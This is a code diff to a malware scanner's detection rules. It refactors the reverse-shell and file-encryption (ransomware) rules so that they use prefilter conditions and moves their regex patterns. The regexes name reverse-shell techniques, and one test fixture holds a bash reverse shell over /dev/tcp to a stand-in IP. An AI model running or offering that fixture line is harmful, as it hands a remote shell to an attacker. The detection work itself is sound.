@@ -8,6 +8,7 @@ from typing import TYPE_CHECKING
 from scan.model import Severity, Standing
 from scan.rules.base import Seen, rule, weighed
 from scan.rules.code import Found, act_rule, acts_of, found_in, seen
+from scan.rules.concordance import needing
 from scan.rules.known import host_of, is_local
 
 if TYPE_CHECKING:
@@ -48,6 +49,36 @@ def opens_shell(found: Found, _: Plugin) -> Iterator[Seen]:
         )
 
 
+_SOCKET = re.compile(r"[Ss]ocket|net\.Dial|TCPClient|net\.|['\"](?:node:)?net['\"]|TCPSocket|fsockopen")
+
+
+_SHELLED = re.compile(
+    r"""(?ix)\bSHELL\b
+      | ["'`](?:/(?:usr/)?bin/)?(?:env\s+)?(?:ba|z|da|k)?sh(?:\s|["'`])
+      | \bcmd(?:\.exe)?\b
+      | powershell
+      | pwsh
+      | \bpty\b
+      | \biex\b
+      | Invoke-Expression
+      | /bin/(?:ba|z)?sh"""
+)
+
+
+_TIED = re.compile(
+    r"""(?x)os\.dup2\(\s*\w+\.fileno\(\)
+      | pty\.spawn
+      | (?:\.pipe\(\s*\w+\.(?:stdin|stdout))
+      | \w+\.(?:stdout|stderr)\.pipe\(\s*(?:client|socket|sock|s|conn|c)\b
+      | open\(?\s*(?:STDIN|STDOUT)\s*,\s*["'][<>]&["']?\s*,?\s*\$?\w+[\s\S]{0,160}\bexec\b
+      | \bnet\.Dial\([\s\S]{0,400}\.Std(?:in|out)\b[\w\s,.]*=[\s\w,]*\b(?:c|conn|connection|s|sock)\b
+      | TCPClient\([\s\S]{0,600}(?:\biex\b|Invoke-Expression)
+      | TCPSocket[\s\S]{0,200}exec
+      | fsockopen[\s\S]{0,200}(?:proc_open|exec)
+      | subprocess\.\w+\(\s*\[?\s*["'](?:/bin/)?(?:ba|z)?sh["'][^)]{0,80}stdin\s*=\s*\w+(?:\.fileno\(\))?"""
+)
+
+
 @rule(
     "shell-over-socket",
     "danger",
@@ -57,6 +88,7 @@ def opens_shell(found: Found, _: Plugin) -> Iterator[Seen]:
     clears={"scripts/a.py": "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\ns.sendall(b'hi')\n"},
     languages=("python", "javascript", "typescript", "ruby", "perl", "php", "go", "powershell"),
     least=Standing.example,
+    asks=needing(_SOCKET, _TIED, _SHELLED),
 )
 def shell_over_socket(text: Text, _: Plugin) -> Iterator[Seen]:
     """Code that connects to another machine and ties a shell to the connection.
@@ -76,38 +108,13 @@ def shell_over_socket(text: Text, _: Plugin) -> Iterator[Seen]:
         )
 
 
-_SOCKET = re.compile(r"[Ss]ocket|net\.Dial|TCPClient|net\.|['\"](?:node:)?net['\"]|TCPSocket|fsockopen")
-_SHELLED = re.compile(
-    r"""(?ix)\bSHELL\b
-      | ["'`](?:/(?:usr/)?bin/)?(?:env\s+)?(?:ba|z|da|k)?sh(?:\s|["'`])
-      | \bcmd(?:\.exe)?\b
-      | powershell
-      | pwsh
-      | \bpty\b
-      | \biex\b
-      | Invoke-Expression
-      | /bin/(?:ba|z)?sh"""
-)
-_TIED = re.compile(
-    r"""(?x)os\.dup2\(\s*\w+\.fileno\(\)
-      | pty\.spawn
-      | (?:\.pipe\(\s*\w+\.(?:stdin|stdout))
-      | \w+\.(?:stdout|stderr)\.pipe\(\s*(?:client|socket|sock|s|conn|c)\b
-      | open\(?\s*(?:STDIN|STDOUT)\s*,\s*["'][<>]&["']?\s*,?\s*\$?\w+[\s\S]{0,160}\bexec\b
-      | \bnet\.Dial\([\s\S]{0,400}\.Std(?:in|out)\b[\w\s,.]*=[\s\w,]*\b(?:c|conn|connection|s|sock)\b
-      | TCPClient\([\s\S]{0,600}(?:\biex\b|Invoke-Expression)
-      | TCPSocket[\s\S]{0,200}exec
-      | fsockopen[\s\S]{0,200}(?:proc_open|exec)
-      | subprocess\.\w+\(\s*\[?\s*["'](?:/bin/)?(?:ba|z)?sh["'][^)]{0,80}stdin\s*=\s*\w+(?:\.fileno\(\))?"""
-)
-
-
 @rule(
     "shell-from-connection",
     "danger",
     flags={"scripts/a.sh": "exec 5<>/dev/tcp/198.51.100.4/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done\n"},
     clears={"scripts/a.sh": "exec 5<>/dev/tcp/127.0.0.1/6379\nprintf 'PING\\r\\n' >&5\n"},
     languages=("shell",),
+    asks=needing(("/dev/tcp/", "/dev/udp/")),
 )
 def shell_from_connection(text: Text, plugin: Plugin) -> Iterator[Seen]:
     """Shell text that reads commands from a connection, or sends a shell's input and output through one.
@@ -116,8 +123,6 @@ def shell_from_connection(text: Text, plugin: Plugin) -> Iterator[Seen]:
 
     Remedy: do not install it.
     """
-    if "/dev/tcp/" not in text.text and "/dev/udp/" not in text.text:
-        return
     _ = plugin
     found = [each for each in found_in(text) if not each.told]
     connects = next(
@@ -285,6 +290,9 @@ def deletes_documents(text: Text, _: Plugin) -> Iterator[Seen]:
             return
 
 
+_WALKS = re.compile(r"os\.walk|rglob\(|\*\*/\*|\bfind\s+[~/$.]|readdirSync|glob\(.{0,40}recursive")
+
+
 @rule(
     "locks-files",
     "danger",
@@ -296,6 +304,7 @@ def deletes_documents(text: Text, _: Plugin) -> Iterator[Seen]:
     },
     languages=("python", "javascript", "typescript", "shell"),
     least=Standing.example,
+    asks=needing(("encrypt", "openssl", "cipher", "gpg"), _WALKS),
 )
 def locks_files(text: Text, _: Plugin) -> Iterator[Seen]:
     """Code that goes through folders, encrypts each file and removes the original.
@@ -304,13 +313,6 @@ def locks_files(text: Text, _: Plugin) -> Iterator[Seen]:
 
     Remedy: do not run it.
     """
-    if (
-        "encrypt" not in text.lowered
-        and "openssl" not in text.lowered
-        and "cipher" not in text.lowered
-        and "gpg" not in text.lowered
-    ):
-        return
     kinds = {act.kind: act for act in acts_of(text)}
     many = _WALKS.search(text.text)
     if many and "encrypt" in kinds and ("delete" in kinds or ("write" in kinds and ".locked" in text.text)):
@@ -322,9 +324,6 @@ def locks_files(text: Text, _: Plugin) -> Iterator[Seen]:
             act.end,
             weighed(Severity.danger, text.standing),
         )
-
-
-_WALKS = re.compile(r"os\.walk|rglob\(|\*\*/\*|\bfind\s+[~/$.]|readdirSync|glob\(.{0,40}recursive")
 
 
 @act_rule(
